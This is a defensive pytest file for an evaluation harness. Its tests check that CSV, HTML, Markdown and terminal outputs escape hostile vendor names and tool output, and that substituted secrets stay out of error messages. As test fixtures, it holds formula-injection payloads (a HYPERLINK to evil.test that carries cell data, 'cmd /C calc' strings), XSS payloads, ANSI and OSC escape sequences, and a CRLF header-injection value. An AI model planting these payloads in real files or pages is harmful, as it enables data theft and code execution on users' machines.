"""Issue 22, "outputs are safe to open": what a vendor, a config or a URL puts into our outputs cannot reach a
person's browser, spreadsheet or terminal as code, and a ``${VAR}`` value (a secret) never appears in a message.
Each test says what happened before. In-process: Flask's test client, score_frame on hand-built records, the
config parser; no subprocess."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from avv_core.errors import InputError
from avv_harness.dialects.overrides import parse_overrides
from avv_harness.inputs.config import load_config, parse_config
from avv_harness.inputs.field_checks import Problems
from avv_harness.locust.web_ui import install_web_ui
from avv_scoring import (
    markdown_cell,
    markdown_table,
    neutralise_cell,
    neutralise_frame,
    render_markdown,
    render_tables,
    restore_cell,
    restore_frame,
    score_frame,
    terminal_text,
)
from avv_scoring.cli import main as avv_score
from avv_scoring.cli import read_irf_table
from avv_scoring.metrics.breakdown import DISAGREEMENT_COLUMNS
from avv_scoring.report.html import render_html
from avv_scoring.report.outputs import scores_csv_text, write_outputs, write_stress_files
from avv_scoring.report.trajectory import render_trajectory
from avv_scoring.stress import stress_tables
from avv_scoring.testing import call, records_frame
from tests.builders import vendors_config, write_inputs, write_yaml
from tests.glue import make_env
from tests.test_scoring_stress import _failed, _ok, write_stress_run

# What hostile vendors, configs and samples put into cells (each a case seen in issue 22).
FORMULA_VENDOR = '=HYPERLINK("http://evil.test/?d="&A1,"click")'
HTML_VENDOR = "x|y\n<img src=x onerror=alert(1)>"
ANSI_VENDOR = "\x1b]0;pwned\x07\x1b[2J"
FORMULA_SAMPLE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_TOOL = "-2+3+cmd|' /C calc'!A0"
SCRIPT_TOOL = "<script>alert(1)</script>"
FORMULA_CONTENT = '+1+1 ```json\n{"name": "get_weather", "arguments": {"city": "Paris"}}\n```'  # a call as text

WEATHER = {"type": "function", "function": {"name": "get_weather", "parameters": {
    "type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}}}
SAMPLES = ("s1", FORMULA_SAMPLE, "-3", "s4")
TOOLS = {sample: [WEATHER] for sample in SAMPLES}


def _hostile_records() -> pd.DataFrame:
    """A baseline that always calls get_weather, and three vendors whose names, calls and answers are hostile:
    each disagrees with the baseline on some samples (a disagreements.csv row per such item)."""
    paris = [call("get_weather", {"city": "Paris"})]
    rows = [{"vendor": "base", "is_baseline": True, "sample_id": s, "finish_reason": "tool_calls", "tool_calls": paris}
            for s in SAMPLES]
    for vendor in (FORMULA_VENDOR, HTML_VENDOR, ANSI_VENDOR):
        rows += [
            {"vendor": vendor, "sample_id": "s1", "finish_reason": "tool_calls", "tool_calls": paris},
            {"vendor": vendor, "sample_id": FORMULA_SAMPLE, "finish_reason": "tool_calls",
             "tool_calls": [call(FORMULA_TOOL, {"city": "=1+1"})]},
            {"vendor": vendor, "sample_id": "-3", "content": FORMULA_CONTENT, "anomalies": "tool_call_as_text"},
            {"vendor": vendor, "sample_id": "s4", "finish_reason": "tool_calls",
             "tool_calls": [call(SCRIPT_TOOL, {"city": "\x1b[31mred"})]},
        ]
    return records_frame(rows)


@pytest.fixture(scope="module")
def hostile():
    return score_frame(_hostile_records(), TOOLS)


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula: beginning with = + - @ tab CR and not a plain number."""
    return [c for row in rows for c in row if c and c[0] in "=+-@\t\r" and neutralise_cell(c) != c]


# 1 ------------------------------------------------------------------ reflected XSS in the download route


@pytest.fixture
def locust_argv(monkeypatch):
    monkeypatch.setattr(sys, "argv", ["locust"])  # Locust's web UI parses sys.argv for its form


def test_download_messages_are_plain_text_and_echo_nothing_as_markup(tmp_path, locust_argv):
    """Before: /avv/download/records.csv?run=<img src=x onerror=alert(1)> answered a text/html 404 whose body
    was the run parameter as given (a reflected XSS, confirmed in Chromium)."""
    config, samples = write_inputs(tmp_path, ["a", "b"], n_samples=2)
    env, ctl = make_env(["--avv-config", str(config), "--avv-samples", str(samples), "--avv-out",
                         str(tmp_path / "out")])
    env.create_web_ui("127.0.0.1", 0, delayed_start=True)
    install_web_ui(env, ctl, interval_s=0.2)
    client = env.web_ui.app.test_client()
    try:
        payload = "<img src=x onerror=alert(1)>"
        for query in ({"run": payload}, {}):  # no run yet: both messages
            got = client.get("/avv/download/records.csv", query_string=query)
            assert got.status_code == 404 and got.mimetype == "text/plain"
            assert got.headers["X-Content-Type-Options"] == "nosniff"
            assert "<img" not in got.get_data(as_text=True)
        assert "&lt;img src=x onerror=alert(1)&gt;" in client.get(
            "/avv/download/records.csv", query_string={"run": payload}).get_data(as_text=True)
        # a run whose file is not written yet: the other message, plain text too
        ctl.runs.append(SimpleNamespace(run_id="r1", run_dir=tmp_path / "not-yet"))
        got = client.get("/avv/download/records.csv?run=r1")
        assert got.status_code == 404 and got.mimetype == "text/plain" and "written when the test stops" in got.text
        # an unknown file name is Flask's own 404, which echoes nothing
        got = client.get("/avv/download/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        assert got.status_code == 404 and "<script>" not in got.get_data(as_text=True)
    finally:
        env.runner.quit()


@pytest.mark.integration  # scores a run and draws its figures: seconds
@pytest.mark.filterwarnings("ignore:Glyph")  # control characters in figure labels: matplotlib's, not HTML
def test_report_html_escapes_every_name_tool_and_answer(hostile):
    """report.html puts vendor names, sample ids, tool names and answers in HTML: every one goes through
    html.escape (the matplotlib side of names is another issue's)."""
    page = render_html(hostile)
    assert "<img src=x" not in page and "<script>alert" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.test/?d=&quot;&amp;A1" in page


# 2 ----------------------------------------------------------------------------- CSV formula injection


# (cell, as written): OWASP's rule, reversible; plain numbers untouched
CELLS = [
    ("=1+1", "'=1+1"), ('=HYPERLINK("http://evil")', "'=HYPERLINK(\"http://evil\")"), ("@SUM(A1)", "'@SUM(A1)"),
    ("+cmd", "'+cmd"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"), ("-inf", "'-inf"), ("- a list item", "'- a list item"),
    ("'", "''"), ("'=1", "''=1"), ("''", "'''"), ("'quoted", "''quoted"), ("'-3", "''-3"),
    ("-3", "-3"), ("-0.25", "-0.25"), ("+1e-3", "+1e-3"), ("-.5", "-.5"), ("12", "12"), ("0.9474", "0.9474"),
    ("", ""), ("get_weather", "get_weather"), ("a=b", "a=b"), (" =1", " =1"), ("é=", "é=")]


@pytest.mark.parametrize("cell, written", CELLS)
def test_csv_cells_are_neutralised_reversibly_and_numbers_stay_numbers(cell, written):
    """The rule's table: neutralised as OWASP says, restored exactly, a plain number left alone."""
    assert neutralise_cell(cell) == written
    assert restore_cell(written) == cell
    frame = pd.DataFrame({"text": [cell], "number": [-0.25]})
    out = neutralise_frame(frame)
    assert out["text"].tolist() == [written] and out["number"].tolist() == [-0.25]
    assert restore_frame(out.astype({"number": str}))["text"].tolist() == [cell]


@pytest.mark.integration  # over a second in one process: the unit tier is sub-second per test
def test_disagreements_scores_and_repeats_csv_hold_no_formula_and_read_back_exactly(hostile, tmp_path):
    """Before: disagreements.csv wrote cells beginning with =HYPERLINK(, @SUM(, + and - from vendor names,
    sample ids, tool calls and answers; scores.csv the vendor names as they were."""
    paths = write_outputs(hostile, tmp_path, html=False)
    for name in ("disagreements.csv", "scores.csv", "scores_by_repeat.csv"):
        rows = _csv_cells(Path(paths[name]))
        assert _formula_cells(rows) == [], name
    disagreements = _csv_cells(Path(paths["disagreements.csv"]))
    flat = [c for row in disagreements for c in row]
    assert "'" + FORMULA_VENDOR in flat and "'" + FORMULA_SAMPLE in flat and "'" + FORMULA_CONTENT in flat
    assert "-3" in flat  # the sample id "-3" is a plain number: as it was
    assert any(c.startswith("'" + FORMULA_TOOL) for c in flat)
    # restore gives back every text cell exactly
    back = restore_frame(pd.read_csv(paths["disagreements.csv"], dtype=str, keep_default_na=False))
    want = hostile.disagreements.reindex(columns=list(DISAGREEMENT_COLUMNS))
    for column in ("vendor", "sample_id", "baseline_calls", "vendor_calls", "vendor_content", "expected"):
        assert back[column].tolist() == want[column].fillna("").astype(str).tolist(), column
    scores = restore_frame(pd.read_csv(paths["scores.csv"], dtype=str, keep_default_na=False))
    assert sorted(scores["vendor"]) == sorted(hostile.scores["vendor"])
    assert scores_csv_text(hostile) == Path(paths["scores.csv"]).read_text(encoding="utf-8")  # the web UI's copy


def test_benign_csv_outputs_are_unchanged_byte_for_byte(tmp_path):
    """Neutralising changes only dangerous cells: on ordinary names every CSV is what pandas wrote before."""
    paris = [call("get_weather", {"city": "Paris"})]
    rows = [{"vendor": v, "is_baseline": v == "base", "sample_id": s, "finish_reason": "tool_calls",
             "tool_calls": paris if (v, s) != ("ven", "s4") else [call("get_weather", {"city": "Oslo"})]}
            for v in ("base", "ven") for s in ("s1", "s4", "-3")]
    result = score_frame(records_frame(rows), {s: [WEATHER] for s in ("s1", "s4", "-3")})
    paths = write_outputs(result, tmp_path, html=False)
    assert len(result.disagreements) == 1
    assert Path(paths["disagreements.csv"]).read_text() == result.disagreements.reindex(
        columns=list(DISAGREEMENT_COLUMNS)).to_csv(index=False)
    assert Path(paths["scores_by_repeat.csv"]).read_text() == result.by_repeat.to_csv(index=False)


def test_avv_score_irf_restores_what_it_reads_and_neutralises_what_it_prints(hostile, tmp_path, capsys):
    """avv-score irf reads a scores.csv back: the vendor names it neutralised come back as they were, and its
    own CSV output is neutralised by the same rule."""
    paths = write_outputs(hostile, tmp_path, html=False)
    text, _ = read_irf_table(paths["scores.csv"])
    assert FORMULA_VENDOR in text["vendor"].tolist()
    assert avv_score(["irf", paths["scores.csv"]]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert _formula_cells(rows) == [] and "'" + FORMULA_VENDOR in [row[1] for row in rows]


def test_stress_and_capacity_csv_are_neutralised(tmp_path, monkeypatch):
    """stress.csv and capacity.csv carry vendor names: neutralised too (before: written as given)."""
    monkeypatch.setattr("avv_scoring.report.outputs.plot", lambda *args, **kwargs: None)  # no figures needed here
    evil = "=cmd|' /C calc'!A0"
    run = write_stress_run(tmp_path / "run", rows=_ok("fast", 1, 4, 100.0) + _ok(evil, 1, 3, 100.0)
                           + _failed(evil, 1, 1))
    paths = write_stress_files(stress_tables(run), tmp_path / "out")
    for name in ("stress.csv", "capacity.csv"):
        rows = _csv_cells(Path(paths[name]))
        assert _formula_cells(rows) == [] and "'" + evil in [c for row in rows for c in row], name


def test_readme_says_how_to_open_records_csv_and_which_convention_the_others_follow():
    records_page = Path(__file__).resolve().parents[1] / "docs" / "reference" / "records.md"
    readme = records_page.read_text(encoding="utf-8")
    assert "OWASP" in readme and "records.csv keeps the raw text" in readme


# 3 ------------------------------------------------------------------------------------ Markdown tables


def _table_rows(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith("|")]


def _cells(line: str) -> int:
    """Cells of a Markdown table row: pipes not escaped by a backslash, minus one."""
    unescaped = sum(1 for i, c in enumerate(line) if c == "|" and (i == 0 or line[i - 1] != "\\"))
    return unescaped - 1


def test_report_md_tables_escape_pipes_newlines_and_html(hostile):
    """Before: report.md carried vendor tool names as raw inline HTML (<script>), and a | or a newline in a
    vendor name or sample id broke its tables (rows with too many cells, a row cut in two)."""
    md = render_markdown(hostile)
    assert "<img" not in md and "<script>" not in md and "\x1b" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "x\\|y &lt;img src=x onerror=alert(1)&gt;" in md
    lines = md.splitlines()
    for i, line in enumerate(lines):
        if line.startswith("|---"):  # a table: every row has as many cells as its header
            width = _cells(lines[i - 1])
            j = i + 1
            while j < len(lines) and lines[j].startswith("|"):
                assert _cells(lines[j]) == width, lines[j]
                j += 1
    assert not any(line.startswith("<") for line in lines)  # no line of raw HTML (a newline inside a name)


def test_markdown_table_is_the_one_helper_and_escapes_each_cell():
    table = markdown_table(["Vendor", "a|b"], [["x|y\r\nz", "<b>&"], [7, None]])
    assert table.splitlines() == ["| Vendor | a\\|b |", "|---|---|", "| x\\|y z | &lt;b&gt;&amp; |", "| 7 | None |"]
    assert markdown_cell("\x1b[2Jt\tab") == "\\x1b[2Jt ab"


# 4 --------------------------------------------------------------------------------- control characters


def test_terminal_tables_show_control_characters_escaped(hostile):
    """Before: a vendor name with an OSC / ANSI sequence ("\\x1b]0;pwned\\x07", "\\x1b[2J") reached the
    terminal raw in the score tables (set the window title, cleared the screen)."""
    text = render_tables(hostile)
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in text
    assert all(not any(0x7f <= ord(c) < 0xa0 or ord(c) < 0x20 for c in line) for line in text.splitlines())


def test_avv_score_trajectory_shows_a_vendor_answer_escaped():
    """`avv-score trajectory` prints vendor answers: an escape sequence in one is shown, not run."""
    steps = records_frame([{"vendor": "v", "sample_id": "s1", "content": "ok\x1b]52;c;ZXZpbA==\x07 done"}])
    out = render_trajectory(steps)
    assert "\x1b" not in out and "ok\\x1b]52;c;ZXZpbA==\\x07 done" in out
    assert terminal_text("a\u202eb\x9bc\n", keep_newlines=True) == "a\\u202eb\\x9bc\n"


@pytest.mark.parametrize("where, patch, needle", [
    ("vendor", {"name": "\x1b]0;pwned\x07"}, "m.vendors[0] (\\x1b]0;pwned\\x07).name: holds control characters"),
    ("vendor", {"name": "a\u202eb"}, "m.vendors[0] (a\\u202eb).name: holds control characters (\\u202e)"),
    ("model", {}, "m\\x1b[2J (the model name): holds control characters (\\x1b)"),
])
def test_config_names_with_control_characters_are_input_errors(tmp_path, where, patch, needle):
    """Before: a vendor or model name with control characters was accepted and printed raw in the progress
    line, the logs and the tables. Now it is an input error naming the file and the field, shown escaped."""
    model = "m\x1b[2J" if where == "model" else "m"
    vendor = {"name": "v", "url": "http://127.0.0.1:8000/v1", "is_baseline": True, **patch}
    path = write_yaml(tmp_path / "c.yaml", vendors_config([vendor], model))
    with pytest.raises(InputError) as info:
        load_config(path, env={})
    message = str(info.value)
    assert f"{path}: {needle}" in message and "\x1b" not in message and "\u202e" not in message
    assert info.value.exit_status == 2


# 5 ----------------------------------------------------------------------- ${VAR} values in messages


def _config_error(vendor_patch: dict, env: dict[str, str]) -> str:
    vendor = {"name": "v", "url": "http://127.0.0.1:8000/v1", "is_baseline": True, "require_key": False,
              **vendor_patch}
    with pytest.raises(InputError) as info:
        parse_config(vendors_config([vendor]), "c.yaml", env)
    return str(info.value)


@pytest.mark.parametrize("patch, env, secret, needle", [
    # a port out of range: before, "not a valid URL (Port out of range 0-65535): 'http://host:99999/v1'"
    ({"url": "http://host:${PORT}/v1"}, {"PORT": "99999"}, "99999",
     "url: the value from ${PORT} is not a valid URL (port out of range); as written: 'http://host:${PORT}/v1'"),
    # a port that is not a number: urlsplit's own message quoted it
    ({"url": "http://host:${PORT}/v1"}, {"PORT": "s3cr3t"}, "s3cr3t",
     "url: the value from ${PORT} is not a valid URL (the port is not a number)"),
    ({"url": "${URL}"}, {"URL": "ftp://internal-host.corp/v1"}, "internal-host.corp",
     "url: the value from ${URL} must start with http:// or https://; as written: '${URL}'"),
    ({"url": "http://h/${P}"}, {"P": "tok\r\nen"}, "tok", "url: the value from ${P} must not contain spaces"),
    ({"url": "http://${H}:0/v1"}, {"H": "hidden-host"}, "hidden-host", "url: the value from ${H} has port 0"),
    # a header with a CRLF: before, the message printed the value (it was not named like a secret)
    ({"headers": {"X-Trace": "${H}"}}, {"H": "abc123\r\nInjected: 1"}, "abc123",
     "headers.X-Trace: holds a line break, control or non-ASCII character (the value from ${H}, not shown)"),
    ({"headers": "${H}"}, {"H": "Bearer sk-live-1"}, "sk-live-1", "headers: must be dict, got a str"),
    ({"extra_body": "${B}"}, {"B": "sk-live-2"}, "sk-live-2", "extra_body: must be dict, got a str"),
])
def test_substituted_values_never_appear_in_config_messages(patch, env, secret, needle):
    """A ${VAR} value is a secret (README): a message names the file, the key and the variable instead."""
    message = _config_error(patch, env)
    assert secret not in message and "c.yaml: m.vendors[0] (v)." + needle in message


def test_a_substituted_value_is_blanked_from_any_config_message_as_a_last_guard():
    """Whatever a future message quotes, a substituted value (of at least HIDDEN_MIN_CHARS) comes out as ***."""
    problems = Problems("c.yaml")
    problems.hide(["s3cr3t-token", "80"])
    problems.add("m.vendors[0] (v).url", "quoted 's3cr3t-token' on port 80")
    with pytest.raises(InputError) as info:
        problems.raise_if_any()
    assert "s3cr3t-token" not in str(info.value) and "quoted '***' on port 80" in str(info.value)


def test_a_url_without_variables_is_still_shown_redacted():
    message = _config_error({"url": "http://u:pw0rd@127.0.0.1:99999/v1"}, {})
    assert "url: not a valid URL (port out of range): 'http://***@127.0.0.1:99999/v1'" in message
    assert "pw0rd" not in message


def test_avv_header_without_a_colon_does_not_echo_the_value():
    """Before: --avv-header "Authorization Bearer sk-…" (the ':' forgotten) printed the whole text, key included."""
    with pytest.raises(InputError) as info:
        parse_overrides(None, None, None, ["Authorization Bearer sk-live-3"])
    assert "sk-live-3" not in str(info.value) and "--avv-header" in str(info.value)


def test_json_outputs_keep_the_raw_names(hostile, tmp_path):
    """scores.json is data (a program reads it): names as they were, nothing neutralised."""
    paths = write_outputs(hostile, tmp_path, html=False)
    data = json.loads(Path(paths["scores.json"]).read_text(encoding="utf-8"))
    assert FORMULA_VENDOR in {v["vendor"] for m in data["models"] for v in m["vendors"]}
